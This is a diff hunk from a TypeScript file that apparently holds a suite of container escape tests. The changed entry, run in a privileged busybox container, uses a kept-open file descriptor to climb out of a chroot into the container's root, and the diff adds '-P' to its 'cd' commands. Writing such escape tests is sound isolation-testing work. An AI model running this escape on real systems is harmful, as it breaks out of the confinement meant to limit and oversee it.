@@ -151,7 +151,7 @@ export const runEscapes: readonly Escape[] = [
     what: "a folder kept open leads above a root that was changed meanwhile, up to the root of all mounts",
     async attempt(lab) {
       const prepare = "mkdir -p /x/bin /x/proc && cp /bin/busybox /x/bin/ && mount -t proc proc /x/proc && exec 9</";
-      const above = `cd /proc/self/fd/9 && cd ${"../".repeat(16)} && /bin/busybox ls -a; ${lab.look()}`;
+      const above = `cd -P /proc/self/fd/9 && cd -P ${"../".repeat(16)} && /bin/busybox ls -a; ${lab.look()}`;
       const script = `${prepare}; chroot /x /bin/busybox sh -c '${above}'`;
       const { stdout } = await lab.run("run", "--rm", "--privileged", "busybox", "sh", "-c", script);
       // It has come out of /x, and is in the container's root.
